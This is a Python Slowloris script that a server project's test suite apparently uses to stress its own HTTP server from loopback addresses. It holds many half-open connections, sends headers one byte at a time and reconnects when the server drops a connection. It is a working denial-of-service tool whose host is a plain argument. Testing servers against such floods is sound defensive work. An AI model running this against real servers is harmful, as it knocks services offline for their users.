#!/usr/bin/env python3
"""Slowloris for prep serve's tests (issue 13): COUNT connections from SOURCES loopback
addresses (127.0.0.2, 127.0.0.3, ... bound before connect), held open without a complete
request for SECONDS. Every TRICKLE-th connection sends a request head one byte at a time
(one byte per connection every 2 s, never the final CRLF); the others stay silent. A
connection the server closes is opened again from the same address after a short pause
(at most RATE reconnections a second), as an attacker keeps its count.

Prints one status line a second to stderr and, once COUNT connections are open (or
after 30 s), writes 'ready N' to the file READY. At the end prints
'open N peak P opened O closed_by_server C' on stdout.

usage: slowloris.py HOST PORT COUNT SOURCES SECONDS READY [TRICKLE] [RATE]
"""
import errno
import os
import resource
import select
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: slowloris\r\nX-a: " + b"b" * 4000


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    count, sources, seconds = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    ready_file = sys.argv[6]
    trickle = int(sys.argv[7]) if len(sys.argv) > 7 else 0
    rate = float(sys.argv[8]) if len(sys.argv) > 8 else 2000.0
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 64), hard))
    ep = select.epoll()
    conns = {}  # fd -> [sock, source, sent, connected, next_byte_at]
    todo = []   # sources to (re)connect: (not_before, source)
    for i in range(count):
        todo.append((0.0, "127.0.0.%d" % (2 + i % sources)))
    opened = closed = peak = 0
    k = 0
    start = time.monotonic()
    last_print = start
    ready = False
    tokens = float(count)  # the first wave at once, then RATE a second
    last_t = start

    n_open = 0
    tricklers = set()

    def drop(fd, again):
        nonlocal closed, n_open
        s = conns.pop(fd)
        tricklers.discard(fd)
        if s[3]:
            n_open -= 1
        try:
            ep.unregister(fd)
        except OSError:
            pass
        s[0].close()
        if again:
            closed += 1
            todo.append((time.monotonic() + 0.2, s[1]))

    while True:
        now = time.monotonic()
        if now - start >= seconds:
            break
        tokens = min(tokens + (now - last_t) * rate, max(rate, 1.0) if ready else float(count))
        last_t = now
        # (re)connect what is due
        keep = []
        for nb, src in todo:
            if nb > now or tokens < 1:
                keep.append((nb, src))
                continue
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.bind((src, 0))
                s.connect_ex((host, port))
            except OSError as e:
                s.close()
                if e.errno in (errno.EMFILE, errno.ENFILE, errno.EADDRNOTAVAIL):
                    keep.append((now + 0.5, src))
                    continue
                raise
            tokens -= 1
            opened += 1
            k += 1
            trick = trickle > 0 and k % trickle == 0
            conns[s.fileno()] = [s, src, 0, False, now if trick else None]
            if trick:
                tricklers.add(s.fileno())
            ep.register(s.fileno(), select.EPOLLIN | select.EPOLLOUT | select.EPOLLRDHUP)
        todo = keep
        for fd, ev in ep.poll(0.05):
            c = conns.get(fd)
            if c is None:
                continue
            if ev & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
                try:
                    d = c[0].recv(4096)
                except OSError:
                    d = b""
                if not d or ev & (select.EPOLLHUP | select.EPOLLERR):
                    drop(fd, True)
                    continue
            if ev & select.EPOLLOUT and not c[3]:
                if c[0].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    drop(fd, True)
                    continue
                c[3] = True
                n_open += 1
                ep.modify(fd, select.EPOLLIN | select.EPOLLRDHUP)
        # trickle: one byte per trickling connection every 2 s
        now = time.monotonic()
        for fd in list(tricklers):
            c = conns[fd]
            if c[3] and now >= c[4]:
                c[4] = now + 2.0
                try:
                    c[0].send(HEAD[c[2] % len(HEAD):c[2] % len(HEAD) + 1])
                    c[2] += 1
                except OSError:
                    drop(fd, True)
        peak = max(peak, n_open)
        if not ready and (n_open >= count or now - start >= 30):
            ready = True
            with open(ready_file + ".tmp", "w") as f:
                f.write("ready %d\n" % n_open)
            os.rename(ready_file + ".tmp", ready_file)
        if now - last_print >= 1:
            last_print = now
            print("slowloris: %.0fs open %d opened %d closed_by_server %d" % (now - start, n_open, opened, closed),
                  file=sys.stderr, flush=True)
    print("open %d peak %d opened %d closed_by_server %d" % (n_open, peak, opened, closed), flush=True)
    for fd in list(conns):
        drop(fd, False)


if __name__ == "__main__":
    main()
